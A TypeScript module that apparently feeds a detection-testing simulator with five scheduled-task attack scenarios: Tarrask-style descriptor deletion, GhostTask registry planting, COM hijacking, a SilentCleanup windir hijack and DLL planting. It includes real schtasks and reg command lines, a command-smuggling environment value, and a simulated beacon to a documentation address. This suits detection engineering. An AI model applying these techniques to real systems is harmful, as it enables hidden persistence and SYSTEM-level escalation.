import { bySchtasks, SYSTEM32 } from '../fleet/ways.ts'
import { later } from '../host/clock.ts'
import { dailyTrigger } from '../host/task-triggers.ts'
import type { Attack } from './attack.ts'
import {
  after,
  asSystem,
  type Draft,
  deskOf,
  exec,
  HOUR,
  implant,
  implantAction,
  runs,
  unsigned,
  withShell,
} from './steps.ts'

const TREE = 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree'

/** As the malware Tarrask does it: the task's security descriptor is deleted, which keeps it from every list. */
export const hiddenBySd: Attack = {
  name: 'hidden-sd',
  variants: ['reg-delete'],
  technique: 'T1053.005',
  does: 'creates a task, then deletes its SD value as SYSTEM so that nobody sees it in a list',
  shownBy: '4698 for the creation; Sysmon 12 for the value; the SOFTWARE hive',
  plan(scene) {
    const { target, claim } = scene
    const draft: Draft = {
      path: '\\WinUpdate',
      triggers: dailyTrigger('2026-03-09T11:30:00'),
      principal: asSystem,
      action: implantAction,
    }
    withShell(scene, 'powershell', (shell) => {
      const { host, tasks } = target
      const line = implantAction.kind === 'exec' ? `powershell.exe ${implantAction.arguments}` : ''
      claim(
        bySchtasks(
          target,
          shell,
          `"${SYSTEM32}schtasks.exe" /create /tn WinUpdate /tr "${line}" /sc daily /st 11:30 /ru SYSTEM`,
          draft,
        ),
      )
      host.wait(20_000)
      const reg = host.start(
        shell,
        `${SYSTEM32}reg.exe`,
        `"${SYSTEM32}reg.exe" delete "${TREE}\\WinUpdate" /v SD /f`,
        host.system,
      )
      host.wait(40)
      claim(
        tasks.tamper('\\WinUpdate', { session: host.system, process: reg, route: 'registry' }, () => [
          host.changeRegistryObject(reg, 'DeleteValue', `${TREE}\\WinUpdate\\SD`),
        ]),
      )
      host.exit(reg)
      after(target, 60 * 60_000, () =>
        runs(target, draft.path, { kind: 'time' }, host.system, (process) => implant(target, process)),
      )
    })
  },
}

/** Atomic Red Team T1053.005 test 10: the tool GhostTask writes the registry itself. */
export const registryOnly: Attack = {
  name: 'registry-only',
  variants: ['ghost-task'],
  technique: 'T1053.005',
  does: 'writes a task into TaskCache without the service, which runs it after its next start; no 4698, no 106',
  shownBy:
    'Sysmon 12 and 13 of TaskCache by another program than the service; 129/200 and processes; the SOFTWARE hive',
  plan(scene) {
    const { target, claim } = scene
    const task = unsigned({
      path: '\\lilghostie',
      triggers: dailyTrigger('2026-03-09T14:12:00'),
      principal: asSystem,
      action: exec('cmd.exe', '/c notepad.exe', `${SYSTEM32}cmd.exe`),
    })
    target.agenda.plan(scene.start, () => {
      const desk = deskOf(target, scene)
      const { host, tasks } = target
      const tool = host.start(
        desk.explorer,
        'C:\\Users\\Public\\GhostTask.exe',
        'C:\\Users\\Public\\GhostTask.exe localhost add lilghostie "cmd.exe" "/c notepad.exe" SYSTEM daily 14:12',
        host.system,
      )
      host.wait(300)
      claim(tasks.plant(task, { session: host.system, process: tool, route: 'registry' }))
      host.exit(tool)
      after(target, 22 * HOUR, () =>
        runs(target, task.path, { kind: 'time' }, host.system, (process) => {
          host.runConsole(process, `${SYSTEM32}notepad.exe`, 'notepad.exe', 4000)
        }),
      )
    })
  },
}

/** A user's own class comes before the machine's: the handler of one of Windows' tasks is another library then. */
export const comHijack: Attack = {
  name: 'com-hijack',
  variants: ['cache-task'],
  technique: 'T1053.005',
  does: "registers a library of its own for the COM class of one of Windows' tasks, which loads it at the next logon",
  shownBy: 'Sysmon 13 of HKU\\…_Classes\\CLSID and Sysmon 7 in taskhostw; no event of the task differs',
  plan(scene) {
    const { target, claim } = scene
    const path = '\\Microsoft\\Windows\\Wininet\\CacheTask'
    const library = 'C:\\Users\\Public\\Libraries\\cache.dll'
    withShell(scene, 'powershell', (shell, desk) => {
      const { host, tasks } = target
      if (!tasks.has(path)) return
      const key = `HKU\\${desk.session.sid}_Classes\\CLSID\\{0358B920-0AC7-461F-98F4-58E32CD89148}\\InprocServer32`
      host.setValue(shell, `${key}\\(Default)`, library)
      claim(tasks.hijack(path, { session: desk.session, process: shell, route: 'registry' }))
      after(target, 24 * HOUR, () => {
        const session = target.desks.at(-1)?.session
        if (!session) return
        const { process, finish } = tasks.run(path, { kind: 'logon' }, session)
        host.wait(200)
        host.loadModule(process, library)
        host.connect(process, '198.51.100.23', 443)
        host.runConsole(process, `${SYSTEM32}whoami.exe`, 'whoami /all', 100)
        after(target, 5000, () => finish())
      })
    })
  },
}

/** The task's action begins with %windir%, which every user can make stand for something else. */
export const environmentHijack: Attack = {
  name: 'environment-hijack',
  variants: ['silent-cleanup'],
  technique: 'T1053.005',
  does: 'sets windir in the environment of its user and starts SilentCleanup, which runs with highest privileges',
  shownBy: 'Sysmon 13 of HKU\\…\\Environment; the command line of the run',
  plan(scene) {
    const { target, claim } = scene
    const path = '\\Microsoft\\Windows\\DiskCleanup\\SilentCleanup'
    withShell(scene, 'powershell', (shell, desk) => {
      const { host, tasks } = target
      if (!tasks.has(path)) return
      const value = 'cmd /K C:\\Users\\Public\\e.bat & REM '
      host.setValue(shell, `HKU\\${desk.session.sid}\\Environment\\windir`, value)
      host.wait(900)
      const tool = host.start(shell, `${SYSTEM32}schtasks.exe`, `"${SYSTEM32}schtasks.exe" /run /tn ${path} /I`)
      host.wait(60)
      claim(tasks.hijack(path, { session: desk.session, process: tool, route: 'schtasks' }))
      const cause = { kind: 'user', user: desk.session.user } as const
      const { process, finish } = tasks.run(path, cause, desk.session, { windir: value, image: `${SYSTEM32}cmd.exe` })
      host.exit(tool)
      host.wait(400)
      host.runConsole(process, `${SYSTEM32}whoami.exe`, 'whoami /priv', 90)
      target.agenda.plan(later(host.now, 30_000), () => finish())
    })
  },
}

/** A program of Windows asks for a library that Windows does not have; whoever may write to its folder gives it one. */
export const plantedLibrary: Attack = {
  name: 'planted-library',
  variants: ['queue-reporting'],
  technique: 'T1053.005',
  does: 'puts a library of its own where a program of Windows looks for one, and starts the task that runs that program as SYSTEM',
  shownBy:
    'Sysmon 11 of the library and Sysmon 7, unsigned, in wermgr; the command line of schtasks; what wermgr starts',
  plan(scene) {
    const { target, claim } = scene
    const path = '\\Microsoft\\Windows\\Windows Error Reporting\\QueueReporting'
    withShell(scene, 'powershell', (shell, desk) => {
      const { host, tasks } = target
      if (!tasks.has(path)) return
      const library = `${SYSTEM32}phoneinfo.dll`
      const written = host.writeFile(shell, library)
      host.wait(2200)
      const tool = host.start(shell, `${SYSTEM32}schtasks.exe`, `"${SYSTEM32}schtasks.exe" /run /tn "${path}"`)
      host.wait(70)
      const change = tasks.hijack(path, { session: desk.session, process: tool, route: 'schtasks' })
      change.evidence.push(written)
      claim(change)
      const { process, finish } = tasks.run(path, { kind: 'user', user: desk.session.user }, host.system)
      host.exit(tool)
      host.wait(180)
      const loaded = host.loadModule(process, library)
      if (loaded) change.evidence.push(loaded)
      host.connect(process, '198.51.100.23', 443)
      host.runConsole(process, `${SYSTEM32}whoami.exe`, 'whoami /all', 120)
      after(target, 20_000, () => finish())
    })
  },
}
